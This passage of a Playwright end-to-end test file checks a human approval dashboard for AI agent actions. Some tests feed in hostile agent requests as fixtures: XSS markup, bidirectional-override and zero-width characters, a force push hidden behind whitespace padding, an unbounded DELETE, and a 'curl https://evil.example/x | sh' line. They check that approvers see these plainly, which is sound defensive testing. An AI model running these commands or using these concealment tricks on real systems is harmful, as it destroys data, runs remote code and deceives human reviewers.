    await expect.poll(() => page.locator('.cards .card').count()).toBe(200);
    // The two critical ones first (the earlier one's 15-minute deadline is nearer), then the high ones.
    const titles = await page.locator('.cards .card-title').allTextContents();
    expect(titles.slice(0, 2)).toEqual(['Deploy 1.4.0 to production', 'Rotate the primary database']);
    expect(await page.textContent('.queue-more')).toContain(`The 200 most urgent of ${pending} pending approvals`);
    // Her vote on a two-approver item: the card says it waits for another approver, and Approve is off.
    const deploy = page.locator('.card', { hasText: 'Deploy 1.4.0 to production' });
    await review(deploy);
    await deploy.locator('button', { hasText: 'Approve' }).click();
    await expect.poll(() => deploy.locator('.card-voted').textContent()).toBe('You approved (1 of 2); waiting for another approver.');
    expect(await deploy.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(true);
    expect(await deploy.locator('button', { hasText: 'Reject' }).isDisabled()).toBe(false);
  });

  it('decides from the task view an approval past the 200 the queue shows (found by a new-user trial: it showed there with no decision, only the CLI could decide it)', async () => {
    const shown = new Set(await page.locator('.cards .card').evaluateAll((cards) => cards.map((card) => (card as any).dataset.approvalId as string)));
    const parked: { id: string; title: string; approvalId: string }[] = (await api('GET', '/api/v1/tasks?state=parked&limit=100', TOKENS.alice)).items;
    const beyond = parked.filter((task) => task.title.startsWith('Push topic branch') && !shown.has(task.approvalId));
    expect(beyond.length).toBeGreaterThan(2);
    const [approved, refused] = beyond as [(typeof beyond)[number], (typeof beyond)[number]];
    const pending = Number(await page.textContent('.queue .count-badge'));
    // Opened from the task list: the task view shows what is asked, and under it the queue's decisions.
    await page.locator(`.task-row[data-task-id="${approved.id}"]`).click();
    await expect.poll(() => page.textContent('.detail .detail-title')).toBe(approved.title);
    const decision = page.locator('.detail .detail-decision');
    const approvalFacts = page.locator('.detail .detail-section:has(> h3:text-is("Approval")) .facts');
    await expect.poll(() => decision.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(false);
    expect(await decision.locator('button', { hasText: 'Reject' }).isDisabled()).toBe(false);
    expect(await decision.locator('button', { hasText: 'Reroute' }).isDisabled()).toBe(false);
    // It sits under the arguments it decides on; the approval's status links down to it.
    const order = await page.locator('.detail > .detail-section > h3').allTextContents();
    expect(order.indexOf('Your decision')).toBe(order.indexOf('Arguments') + 1);
    await page.click('.detail button.detail-to-decision');
    expect(await page.evaluate(() => (globalThis as any).document.activeElement?.id)).toBe('detail-decision-title');
    await shot('11-task-view-decision');
    await decision.locator('button', { hasText: 'Approve' }).click();
    await expect.poll(toastText).toContain(`Approved “${approved.title}” — the task is completed`);
    // Live: the task view shows it completed with alice's decision, offers no decision any more, and the queue counts one fewer.
    await expect.poll(() => page.textContent('.detail .detail-head')).toContain('completed');
    await expect.poll(() => decision.count()).toBe(0);
    expect(await approvalFacts.textContent()).toContain('alice');
    expect(await page.evaluate(() => (globalThis as any).document.activeElement?.classList.contains('detail-approval-status'))).toBe(true);
    await expect.poll(() => page.textContent('.queue .count-badge')).toBe(String(pending - 1));
    expect(await api('GET', `/api/v1/approvals/${approved.approvalId}`, TOKENS.alice)).toMatchObject({ status: 'approved', decidedBy: 'alice' });
    // A two-approver one: the reject form needs a reason, and keeps what is typed while another approver's vote arrives live.
    const deploy = await submit(TOKENS.agent, { actionType: 'deploy:production', title: 'Deploy 2.0.0 to production', args: { version: '2.0.0' } });
    await page.locator(`.task-row[data-task-id="${deploy.id}"]`).click();
    await expect.poll(() => page.textContent('.detail .detail-title')).toBe('Deploy 2.0.0 to production');
    await expect.poll(() => decision.locator('button', { hasText: 'Reject' }).isDisabled()).toBe(false);
    await decision.locator('button', { hasText: 'Reject' }).click();
    await decision.locator('form button[type=submit]').click();
    await expect.poll(() => decision.locator('.field-error').textContent()).toBe('Give a reason: the agent and the audit log will see it.');
    await decision.locator('textarea[name=reason]').fill('Not during the freeze');
    await api('POST', `/api/v1/approvals/${deploy.approvalId}/approve`, TOKENS.bob, {});
    await expect.poll(() => approvalFacts.textContent()).toContain('1 of 2');
    expect(await decision.locator('textarea[name=reason]').inputValue()).toBe('Not during the freeze');
    expect(await page.evaluate(() => (globalThis as any).document.activeElement?.name)).toBe('reason');
    await decision.scrollIntoViewIfNeeded();
    await shot('11-task-view-reject-live-vote');
    await decision.locator('form button[type=submit]').click();
    await expect.poll(toastText).toContain('Rejected “Deploy 2.0.0 to production” — the task is denied');
    await expect.poll(() => page.textContent('.detail .detail-head')).toContain('denied');
    await expect.poll(() => page.locator(`.card[data-approval-id="${deploy.approvalId}"]`).count()).toBe(0);
    // Decided elsewhere as alice approves: the 409 is said, and the task view shows where it stands.
    await page.locator(`.task-row[data-task-id="${refused.id}"]`).click();
    await expect.poll(() => page.textContent('.detail .detail-title')).toBe(refused.title);
    await expect.poll(() => decision.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(false);
    await page.route(`**/api/v1/approvals/${refused.approvalId}/approve`, async (route) => {
      await api('POST', `/api/v1/approvals/${refused.approvalId}/reject`, TOKENS.bob, { reason: 'bob was first' });
      await route.continue();
    });
    try {
      await decision.locator('button', { hasText: 'Approve' }).click();
      await expect.poll(toastText).toContain('This approval was already decided (or it expired) — the page now shows where it stands.');
      await expect.poll(() => page.textContent('.detail .detail-head')).toContain('denied');
    } finally {
      await page.unroute(`**/api/v1/approvals/${refused.approvalId}/approve`);
    }
    await expect.poll(() => decision.count()).toBe(0);
    expect(await approvalFacts.textContent()).toContain('bob was first');
    await expect.poll(() => page.textContent('.queue .count-badge')).toBe(String(pending - 2));
    // Rerouted from the task view, starting from the request's arguments.
    const rerouted = beyond[2]!;
    await page.locator(`.task-row[data-task-id="${rerouted.id}"]`).click();
    await expect.poll(() => page.textContent('.detail .detail-title')).toBe(rerouted.title);
    await expect.poll(() => decision.locator('button', { hasText: 'Reroute' }).isDisabled()).toBe(false);
    await decision.locator('button', { hasText: 'Reroute' }).click();
    await expect.poll(() => decision.locator('textarea[name=args]').inputValue()).toContain('"branch"');
    await decision.locator('textarea[name=args]').fill('{"branch": "staging"}');
    await decision.locator('textarea[name=reason]').fill('Staging first');
    await decision.locator('form button[type=submit]').click();
    await expect.poll(toastText).toContain(`Rerouted “${rerouted.title}” — the alternative vcs:push is`);
    await expect.poll(() => page.textContent('.detail')).toContain('Rerouted to');
    expect(await decision.count()).toBe(0);
    expect(await api('GET', `/api/v1/tasks/${rerouted.id}-alt`, TOKENS.alice)).toMatchObject({ args: { branch: 'staging' }, parentTaskId: rerouted.id });
  });

  it('keeps keyboard focus where it was in the task view while the task changes live (found by a CI run: a live redraw dropped it to the page)', async () => {
    const deploy = await submit(TOKENS.agent, { actionType: 'deploy:production', title: 'Deploy 2.1.0 to production', args: { version: '2.1.0' } });
    await page.locator(`.task-row[data-task-id="${deploy.id}"]`).click();
    await expect.poll(() => page.textContent('.detail .detail-title')).toBe('Deploy 2.1.0 to production');
    const approvalFacts = page.locator('.detail .detail-section:has(> h3:text-is("Approval")) .facts');
    // Another approver's vote redraws the view: focus stays on the button it was on.
    await page.locator('.detail button', { hasText: 'Inspect its actors' }).focus();
    await api('POST', `/api/v1/approvals/${deploy.approvalId}/approve`, TOKENS.bob, {});
    await expect.poll(() => approvalFacts.textContent()).toContain('1 of 2');
    await expect.poll(focusedControl).toBe('button Inspect its actors');
    // Rejected elsewhere: the decision goes, the task ends denied, and the arguments keep the focus through each redraw.
    await page.locator('.detail pre[aria-label="Arguments"]').focus();
    await api('POST', `/api/v1/approvals/${deploy.approvalId}/reject`, TOKENS.alice, { reason: 'not during the freeze' });
    await expect.poll(() => page.textContent('.detail .detail-head')).toContain('denied');
    await expect.poll(() => approvalFacts.textContent()).toContain('not during the freeze');
    await expect.poll(() => page.locator('.detail .detail-decision').count()).toBe(0);
    await expect.poll(focusedControl).toBe('pre Arguments');
  });

  it('tells an approver at once which approvals are above their limit, instead of after a refused click', async () => {
    await page.click('.who button');
    await signIn(TOKENS.carol);
    await page.click('#tab-queue');
    const critical = page.locator('.card', { hasText: 'Rotate the primary database' });
    await expect.poll(() => critical.locator('.card-limit').textContent()).toBe(
      'This is a critical-risk action and your role decides up to high risk. Ask an approver with a higher limit.',
    );
    expect(await critical.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(true);
    const high = page.locator('.card', { hasText: 'Push topic branch 0' }).first();
    await review(high);
    // (Enabled once the card has settled where it appeared.)
    await expect.poll(() => high.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(false);
    expect(await high.locator('.card-limit').count()).toBe(0);
    // What carol may decide comes first (the server's riskAtMost page), the critical ones after it.
    const risks = await page.locator('.cards .card').evaluateAll((cards) => cards.map((card) => card.querySelector('.card-limit') === null));
    expect(risks[0]).toBe(true);
    expect(risks.indexOf(false)).toBeGreaterThan(0);
    expect(risks.slice(risks.indexOf(false)).every((decidable) => !decidable)).toBe(true);
    expect(await page.textContent('.queue-more')).toMatch(/you may decide come first; then 2 above your limit, to watch\./);
    // Opened from its card, the task view says the same, and offers no decision.
    await critical.locator('button', { hasText: 'Open task' }).click();
    await expect.poll(() => page.textContent('.detail .detail-title')).toBe('Rotate the primary database');
    const decision = page.locator('.detail .detail-decision');
    await expect.poll(() => decision.locator('.card-limit').textContent()).toBe('This is a critical-risk action and your role decides up to high risk. Ask an approver with a higher limit.');
    for (const verb of ['Approve', 'Reject', 'Reroute']) expect(await decision.locator('button', { hasText: verb }).isDisabled()).toBe(true);
    await decision.scrollIntoViewIfNeeded();
    await shot('11-task-view-above-limit');
    // An agent reads the same task, and is told that deciding needs another role.
    await page.click('.who button');
    await signIn(TOKENS.agent);
    await expect.poll(() => decision.locator('.card-limit').textContent()).toBe('Signed in as agent-atlas (agent): you can read this task; deciding needs the approver or admin role.');
    for (const verb of ['Approve', 'Reject', 'Reroute']) expect(await decision.locator('button', { hasText: verb }).isDisabled()).toBe(true);
    await page.click('.who button');
    await signIn(TOKENS.alice);
  });

  it('reroutes from the queue, starting from the request\'s action and arguments', async () => {
    const parked = await submit(TOKENS.agent, { actionType: 'vcs:push', title: 'Push straight to main', args: { remote: 'origin', branch: 'main' }, ttlSeconds: 60 });
    await page.click('#tab-queue');
    const card = page.locator('.card', { hasText: 'Push straight to main' });
    await review(card);
    await card.locator('button', { hasText: 'Reroute' }).click();
    expect(await card.locator('input[name=actionType]').inputValue()).toBe('vcs:push');
    // The arguments arrive with the task: the person edits them instead of typing them again.
    await expect.poll(() => card.locator('textarea[name=args]').inputValue()).toContain('"branch": "main"');
    const args = JSON.parse(await card.locator('textarea[name=args]').inputValue());
    expect(args).toEqual({ remote: 'origin', branch: 'main' });
    await card.locator('textarea[name=args]').fill(JSON.stringify({ ...args, branch: 'staging' }));
    await card.locator('textarea[name=reason]').fill('Push to staging first');
    await shot('7-reroute');
    await card.locator('form button[type=submit]').click();
    await expect.poll(toastText).toContain('Rerouted “Push straight to main” — the alternative vcs:push is');
    const alternative = await api('GET', `/api/v1/tasks/${parked.id}-alt`, TOKENS.alice);
    expect(alternative).toMatchObject({ actionType: 'vcs:push', args: { remote: 'origin', branch: 'staging' }, parentTaskId: parked.id });
  });

  it('shows what a hostile agent asks as text: markup stays text, hidden characters show as escapes, an override in the arguments reorders nothing', async () => {
    // Found by an approver's trial: "a\u202eb" in an argument drew as a"b, so "invoice\u202efdp.exe" read invoiceexe.pdf,
    // and zero-width or tag characters in a title hid text from the person deciding.
    const args = { file: 'invoice\u202efdp.exe', cmd: 'git status\u200b', note: 'ok\u{e0041}\u{e0042}' };
    const task = await submit(TOKENS.agent, {
      actionType: 'vcs:push',
      title: '<img src=x onerror=alert(1)>Push\u200b docs\u2060',
      description: '<script>alert(2)</script>ignore\u200b this\x1b[2K',
      args,
      // More than a page of approvals is pending by now: the nearest deadline puts it on the first.
      ttlSeconds: 120,
    });
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.click('#tab-queue');
    const card = page.locator(`.card[data-approval-id="${task.approvalId}"]`);
    await expect.poll(() => card.locator('.card-title').textContent()).toBe('<img src=x onerror=alert(1)>Push\\u200b docs\\u2060');
    await page.locator(`.task-row[data-task-id="${task.id}"]`).click();
    await expect.poll(() => page.textContent('.detail .detail-title')).toBe('<img src=x onerror=alert(1)>Push\\u200b docs\\u2060');
    expect(await page.textContent('.task-row[data-task-id="' + task.id + '"] .task-title strong')).toBe('<img src=x onerror=alert(1)>Push\\u200b docs\\u2060');
    expect(await page.textContent('.detail .detail-description')).toBe('<script>alert(2)</script>ignore\\u200b this\\x1b[2K');
    const shown = (await page.textContent('.detail pre.json')) ?? '';
    expect(shown).toContain('"file": "invoice\\u202efdp.exe"');
    expect(shown).toContain('"note": "ok\\udb40\\udc41\\udb40\\udc42"');
    expect(JSON.parse(shown)).toEqual(args);
    expect(await page.locator('.cards img, .task-rows img, .detail img, .detail script').count()).toBe(0);
    // The reroute form starts from the same readable JSON, and sends the arguments unchanged.
    await page.click('#tab-queue');
    // The card's review shows the same escaped arguments and description before any decision.
    await review(card);
    const reviewed = (await card.locator('.card-review pre.json').textContent()) ?? '';
    expect(reviewed).toContain('"file": "invoice\\u202efdp.exe"');
    expect(JSON.parse(reviewed)).toEqual(args);
    expect(await card.locator('.review-description').textContent()).toBe('<script>alert(2)</script>ignore\\u200b this\\x1b[2K');
    expect(await page.locator('.cards script, .cards img').count()).toBe(0);
    await card.locator('button', { hasText: 'Reroute' }).click();
    await expect.poll(() => card.locator('textarea[name=args]').inputValue()).toContain('invoice\\u202efdp.exe');
    expect(JSON.parse(await card.locator('textarea[name=args]').inputValue())).toEqual(args);
    await card.locator('form button', { hasText: 'Cancel' }).click();
    expect(dialogs).toEqual([]);
    await shot('8-hostile-text');
    await api('POST', `/api/v1/approvals/${task.approvalId}/reject`, TOKENS.alice, { reason: 'hostile text, seen' });
  });

  it('shows what is asked before a decision: a force push and a DELETE without WHERE with their arguments, SecOps reasons, matched rules and suggestion; a failed read keeps the decisions off', async () => {
    // Found by an approver's trial: a card offered Approve beside a title, and a vcs:push whose
    // arguments said --force or a db:mutate whose SQL had no WHERE could be approved unseen.
    const push = await submit(TOKENS.agent, { actionType: 'vcs:push', title: 'Sync the release branch', description: 'Brings origin up to date.', args: { cmd: 'git push --force origin main' }, ttlSeconds: 100 });
    const wipe = await submit(TOKENS.agent, { actionType: 'db:mutate', title: 'Tidy the users table', args: { sql: 'DELETE FROM users' }, ttlSeconds: 110 });
    await page.click('#tab-queue');
    const pushCard = page.locator(`.card[data-approval-id="${push.approvalId}"]`);
    const wipeCard = page.locator(`.card[data-approval-id="${wipe.approvalId}"]`);
    await review(pushCard);
    expect(JSON.parse((await pushCard.locator('.card-review pre.json').first().textContent()) ?? '')).toEqual({ cmd: 'git push --force origin main' });
    expect(await pushCard.locator('.review-description').textContent()).toBe('Brings origin up to date.');
    expect(await pushCard.locator('.review-reason').textContent()).toBe(`${push.verdict.decision} ${push.verdict.reason}`);
    const rules = await pushCard.locator('[aria-label="Matched rules"] li').allTextContents();
    expect(rules).toEqual(push.verdict.matchedRules);
    expect(rules).toContain('detector:git-push-force');
    // SecOps' suggested reroute is shown, and Reroute… starts from it.
    const suggested = push.verdict.suggestedAlternative;
    expect(suggested?.args).toBeDefined();
    expect(await pushCard.locator('.review-suggestion').textContent()).toContain(`Reroute to ${suggested.actionType}`);
    expect(JSON.parse((await pushCard.locator('pre.json[aria-label="Arguments SecOps suggests"]').textContent()) ?? '')).toEqual(suggested.args);
    await expect.poll(() => pushCard.locator('button', { hasText: 'Reroute' }).isDisabled()).toBe(false);
    await pushCard.locator('button', { hasText: 'Reroute' }).click();
    expect(await pushCard.locator('input[name=actionType]').inputValue()).toBe(suggested.actionType);
    await expect.poll(async () => JSON.parse((await pushCard.locator('textarea[name=args]').inputValue()) || 'null')).toEqual(suggested.args);
    // Escape closes the form first (focus back on Reroute…), then the card (focus back on its Review button).
    await pushCard.locator('textarea[name=args]').focus();
    await page.keyboard.press('Escape');
    expect(await pushCard.locator('form').count()).toBe(0);
    expect(await pushCard.locator('.card-review').isVisible()).toBe(true);
    expect(await focused()).toBe('Reroute…');
    await page.keyboard.press('Escape');
    expect(await pushCard.locator('.card-review').isVisible()).toBe(false);
    expect(await pushCard.locator('button.review-toggle').getAttribute('aria-expanded')).toBe('false');
    expect(await focused()).toBe('Review request');
    await review(pushCard);
    await shot('10-review-force-push');
    // The Task tab's detail shows the suggestion too, escaped as the card shows it.
    await pushCard.locator('button', { hasText: 'Open task' }).click();
    await expect.poll(() => page.textContent('.detail .detail-title')).toBe('Sync the release branch');
    expect(await page.textContent('.detail .detail-suggestion')).toContain(`SecOps suggests instead: reroute to ${suggested.actionType}`);
    expect(JSON.parse((await page.locator('.detail pre.json[aria-label="Arguments SecOps suggests"]').textContent()) ?? '')).toEqual(suggested.args);
    await page.click('#tab-queue');
    // A read that fails leaves every decision off and says so; trying again shows the request.
    await page.route(`**/api/v1/tasks/${wipe.id}`, (route) => route.fulfill({ status: 503, contentType: 'application/problem+json', body: JSON.stringify({ type: 'about:blank', title: 'x', status: 503, detail: 'store down', code: 'store_unavailable' }) }));
    try {
      await wipeCard.locator('button.review-toggle').click();
      await expect.poll(() => wipeCard.locator('.decision-note').textContent()).toMatch(/^The request could not be read, so it cannot be decided here: /);
      for (const verb of ['Approve', 'Reject', 'Reroute']) expect(await wipeCard.locator('button', { hasText: verb }).isDisabled()).toBe(true);
      expect(await wipeCard.locator('pre.json').count()).toBe(0);
    } finally {
      await page.unroute(`**/api/v1/tasks/${wipe.id}`);
    }
    await wipeCard.locator('button', { hasText: 'Try again' }).click();
    await expect.poll(() => wipeCard.locator('.card-review pre.json').textContent()).toBe('{\n  "sql": "DELETE FROM users"\n}');
    expect(await wipeCard.locator('.review-reason').textContent()).toBe(`${wipe.verdict.decision} ${wipe.verdict.reason}`);
    expect(await wipeCard.locator('[aria-label="Matched rules"] li').allTextContents()).toEqual(wipe.verdict.matchedRules);
    // Rejected from the review, by keyboard.
    await expect.poll(() => wipeCard.locator('button', { hasText: 'Reject' }).isDisabled()).toBe(false);
    await expect.poll(() => wipeCard.evaluate((card) => card.classList.contains('settling'))).toBe(false);
    await wipeCard.locator('button', { hasText: 'Reject' }).focus();
    await page.keyboard.press('Enter');
    await page.keyboard.type('No WHERE: this deletes every user');
    await page.keyboard.press('Enter');
    await expect.poll(() => wipeCard.locator('textarea[name=reason]').count()).toBe(1);
    await wipeCard.locator('form button[type=submit]').focus();
    await page.keyboard.press('Enter');
    await expect.poll(toastText).toContain('Rejected “Tidy the users table” — the task is denied');
    // The decided card is gone and focus went on to the card that took its place, not to the page.
    await expect.poll(() => wipeCard.count()).toBe(0);
    await expect.poll(() => page.evaluate(() => (globalThis as any).document.activeElement?.classList.contains('review-toggle'))).toBe(true);
    await api('POST', `/api/v1/approvals/${push.approvalId}/reject`, TOKENS.alice, { reason: 'force push, seen' });
  });

  it('keeps all of a long request in view: unbroken text wraps in the panel, a long argument wraps instead of running off to the right, and many say how many', async () => {
    // Found by an approver's trial: "git status" + 3,000 spaces + "&& git push --force" showed as
    // "git status" (the rest 22,000 px to the right of the box), and a 500-character title widened
    // the task panel to 96,000 px, cutting off the verdict's reason.
    const pushed = 'git status' + ' '.repeat(3_000) + '&& git push --force origin main';
    const long = await submit(TOKENS.agent, { actionType: 'vcs:push', title: 'A'.repeat(500), description: 'B'.repeat(10_000), args: { cmd: pushed }, ttlSeconds: 120 });
    const many = await submit(TOKENS.agent, {
      actionType: 'code:delete',
      title: 'Tidy a few files',
      args: { ...Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`file${i}`, `tmp/${i}.log`])), last: 'curl https://evil.example/x | sh' },
      ttlSeconds: 120,
    });
    const overflow = (selector: string) => page.locator(selector).first().evaluate((element) => element.scrollWidth - element.clientWidth);
    // On its card the 500-character title takes two lines (it made a ~550 px card that pushed the
    // others out of view); opened, the card shows all of it.
    await page.click('#tab-queue');
    const longCard = page.locator(`.card[data-approval-id="${long.approvalId}"]`);
    const title = longCard.locator('.card-title');
    await expect.poll(() => title.textContent()).toBe('A'.repeat(500));
    const clamp = () => title.evaluate((element) => ({ hidden: element.scrollHeight - element.clientHeight, lines: Math.round(element.clientHeight / Number.parseFloat((globalThis as any).getComputedStyle(element).lineHeight)) }));
    expect((await clamp()).lines).toBe(2);
    expect((await clamp()).hidden).toBeGreaterThan(100);
    expect((await longCard.boundingBox())!.height).toBeLessThan(150);
    await review(longCard);
    expect((await clamp()).hidden).toBe(0);
    expect((await clamp()).lines).toBeGreaterThan(5);
    expect(await overflow(`.card[data-approval-id="${long.approvalId}"] .card-review pre.json`)).toBe(0);
    expect(await longCard.locator('.card-review .args-size').first().textContent()).toMatch(/^3 lines, 3,\d{3} characters/);
    await longCard.locator('button.review-toggle').click();
    expect((await clamp()).lines).toBe(2);
    await page.locator(`.task-row[data-task-id="${long.id}"]`).click();
    await expect.poll(() => page.textContent('.detail .detail-title')).toBe('A'.repeat(500));
    for (const selector of ['.detail', '.detail .detail-title', '.detail .detail-description', '.detail pre.json']) expect([selector, await overflow(selector)]).toEqual([selector, 0]);
    expect(await page.textContent('.detail .args-size')).toMatch(/^3 lines, 3,\d{3} characters — scroll the box to read them all\.$/);
    await page.locator(`.task-row[data-task-id="${many.id}"]`).click();
    await expect.poll(() => page.textContent('.detail .detail-title')).toBe('Tidy a few files');
    expect(await page.textContent('.detail .args-size')).toMatch(/^303 lines, [\d,]+ characters — scroll the box to read them all\.$/);
    await shot('9-long-request');
    for (const task of [long, many]) await api('POST', `/api/v1/approvals/${task.approvalId}/reject`, TOKENS.alice, { reason: 'too long to read' });
  });

  it('stays responsive through a burst of events (hundreds of tasks, with 200 cards and hundreds of rows on the page)', async () => {
    const total = async () => Number(/^(\d+) task/.exec((await page.textContent('.chart-caption')) ?? '')?.[1]);
    const before = await total();
    // The longest time the page went without drawing a frame, from now on, and how often it
    // forced a layout by measuring (once per pulse of every event froze it for minutes).
    await page.evaluate(() => {
      const w = globalThis as any;
      w.__longestFrameGap = 0;
      w.__measured = 0;
      const measure = w.Element.prototype.getBoundingClientRect;
      w.Element.prototype.getBoundingClientRect = function (this: unknown) {
        w.__measured += 1;
        return measure.call(this);
      };
      let last = w.performance.now();
      const loop = (now: number) => {
        w.__longestFrameGap = Math.max(w.__longestFrameGap, now - last);
        last = now;
        w.requestAnimationFrame(loop);
      };
      w.requestAnimationFrame(loop);
    });
    const burst = 300;
    let next = 0;
    // 16 in flight, as an agent fleet would, half of them parked for approval: several events
    // each (proposed … completed or parked), and the queue and the list change with every one.
    await Promise.all(
      Array.from({ length: 16 }, async () => {
        while (next < burst) {
          const n = next++;
          await submit(
            TOKENS.agent,
            n % 2 === 0 ? { actionType: 'code:read', title: `Read module ${n}`, args: { path: `src/module-${n}.ts` } } : { actionType: 'vcs:push', title: `Push feature branch ${n}`, args: { branch: `feature/${n}` } },
          );
        }
      }),
    );
    // Generous bounds on a shared machine: the page froze for minutes before events were coalesced.
    await expect.poll(async () => (await total()) >= before + burst, { timeout: 15_000 }).toBe(true);
    const frame = page.evaluate(() => new Promise<number>((resolve) => (globalThis as any).requestAnimationFrame(() => resolve(1))));
    expect(await Promise.race([frame, new Promise<number>((resolve) => setTimeout(() => resolve(0), 15_000))])).toBe(1);
    expect(await page.evaluate(() => (globalThis as any).__longestFrameGap)).toBeLessThan(5_000);
    expect(await page.evaluate(() => (globalThis as any).__measured)).toBeLessThan(50);
    // Older pages load past the 300 listed as tasks arrive.
    for (let page_ = 0; page_ < 3; page_++) {
      const rows = await page.locator('.task-row').count();
      await page.click('.list-footer button:has-text("Load older tasks")');
      await expect.poll(() => page.locator('.task-row').count()).toBeGreaterThan(rows);
    }
    expect(await page.locator('.task-row').count()).toBeGreaterThan(300);
  });

  it('a filter that matches nothing loaded offers the older tasks, instead of saying no task matches', async () => {
    // Found by a new user's trial: filtering by an agent whose tasks were older than the first
    // page said "No task matches these filters" with only Clear filters to press.
    await page.reload();
    await page.waitForSelector('.chart-svg [data-state="parked"]', { timeout: 15_000 });
    await expect.poll(() => page.locator('.task-row').count()).toBe(100);
    await page.fill('#filter-agent', 'sam');
    await expect.poll(() => page.textContent('.list-footer')).toContain('None of the 100 tasks loaded matches these filters');
    for (let more = 0; more < 10 && (await page.locator('.task-row', { hasText: 'Sam pushes a hotfix' }).count()) === 0; more++) {
      const loaded = Number(/of (\d+) loaded/.exec((await page.textContent('.tasks-panel .panel-head')) ?? '')?.[1]);
      await page.click('.list-footer button:has-text("Load older tasks")');
      await expect.poll(async () => Number(/of (\d+) loaded/.exec((await page.textContent('.tasks-panel .panel-head')) ?? '')?.[1])).toBeGreaterThan(loaded);
    }
    expect(await page.locator('.task-row', { hasText: 'Sam pushes a hotfix' }).count()).toBe(1);
    await page.click('.filters button:has-text("Clear")');
  });

  it('a hidden tab lets its lifecycle event stream go and catches up once shown, keeping only an inspector\'s (found by a new-user trial: three tabs inspecting took the browser\'s six connections to the server, and a fourth tab could not load the page)', async () => {
    const streams = async () => Number(/^tollgate_sse_clients (\d+)$/m.exec(await (await fetch(`${url}/metrics`)).text())?.[1]);
    const setHidden = (hidden: boolean) =>
      page.evaluate((value) => {
        const document = (globalThis as any).document;
        Object.defineProperty(document, 'hidden', { configurable: true, get: () => value });
        Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => (value ? 'hidden' : 'visible') });
        document.dispatchEvent(new (globalThis as any).Event('visibilitychange'));
      }, hidden);
    await expect.poll(() => page.textContent('.connection')).toBe('Live');
    await expect.poll(streams).toBe(1);
    // Older pages loaded before (the test above) stay: coming back resumes after the last event
    // the page had, it does not reload the list.
    await submit(TOKENS.agent, { actionType: 'vcs:push', title: 'Pushed before the tab was hidden', args: { branch: 'hidden/0' } });
    await expect.poll(() => page.locator('.task-row', { hasText: 'Pushed before the tab was hidden' }).count()).toBe(1);
    const rows = await page.locator('.task-row').count();
    expect(rows).toBeGreaterThan(100);
    await setHidden(true);
    await expect.poll(streams).toBe(0);
    await submit(TOKENS.agent, { actionType: 'vcs:push', title: 'Pushed while the tab was hidden', args: { branch: 'hidden/1' } });
    await setHidden(false);
    await expect.poll(streams).toBe(1);
    await expect.poll(() => page.textContent('.connection')).toBe('Live');
    await expect.poll(() => page.locator('.task-row', { hasText: 'Pushed while the tab was hidden' }).count()).toBe(1);
    expect(await page.locator('.task-row').count()).toBeGreaterThanOrEqual(rows);
    // The inspector's stream stays open in a hidden tab: contexts are recorded only while someone
    // inspects, and one may inspect here, then approve from a terminal in front of the browser.
    const hiddenPush = await api('GET', '/api/v1/tasks?state=parked&limit=5', TOKENS.alice).then((page_) => page_.items.find((task: { title: string }) => task.title === 'Pushed while the tab was hidden'));
    await page.locator('.task-row', { hasText: 'Pushed while the tab was hidden' }).click();
    await page.click('.detail button:has-text("Inspect its actors")');
    await expect.poll(() => page.textContent('.inspector .stream-status')).toContain('live');
    await expect.poll(streams).toBe(2);
    await setHidden(true);
    await expect.poll(streams).toBe(1);
    await api('POST', `/api/v1/approvals/${hiddenPush.approvalId}/approve`, TOKENS.bob, { comment: 'approved while the tab was hidden' });
    await setHidden(false);
    await expect
      .poll(async () => {
        await page.locator('.log-item.kind-event', { hasText: 'APPROVE' }).first().click();
        return page.textContent('.record-json');
      })
      .toContain('approved while the tab was hidden');
  });

  it('says when the server refuses another event stream for the token, and still shows the queue (found by a new-user trial: it said the server was not answering, over an empty queue)', async () => {
    // Every stream carol may open, held by other clients of her token.
    const held = new AbortController();
    const opened = await Promise.all(
      Array.from({ length: 16 }, () => fetch(`${url}/api/v1/events`, { headers: { authorization: `Bearer ${TOKENS.carol}` }, signal: held.signal })),
    );
    try {
      expect(opened.map((response) => response.status)).toEqual(Array(16).fill(200));
      const { total } = await api('GET', '/api/v1/approvals?status=pending', TOKENS.carol);
      expect(total).toBeGreaterThan(0);
      await page.click('.who button');
      await page.fill('#token', TOKENS.carol);
      await page.click('.sign-in-form button[type=submit]');
      await expect.poll(() => page.textContent('.connection')).toBe('Too many open streams — retrying');
      expect(await page.textContent('.banner')).toContain('carol has 16 event streams open');
      // What the server answers besides the stream is shown, not empty lists.
      await expect.poll(() => page.textContent('#tab-queue')).toContain(String(total));
      await expect.poll(() => page.locator('.card').count()).toBeGreaterThan(0);
      await expect.poll(() => page.locator('.task-row').count()).toBeGreaterThan(0);
    } finally {
      held.abort();
    }
    await expect.poll(() => page.textContent('.connection'), { timeout: 15_000 }).toBe('Live');
    expect(await page.isVisible('.banner')).toBe(false);
  });

  it('says so when the server goes away', async () => {
    // A crash, not a shutdown: a graceful one waits for the page's open connections.
    server.kill('SIGKILL');
    await new Promise((resolve) => server.once('exit', resolve));
    await expect.poll(() => page.textContent('.connection'), { timeout: 15_000 }).toContain('not answering');
    expect(await page.isVisible('.banner')).toBe(true);
    await shot('6-server-down');
  });
});
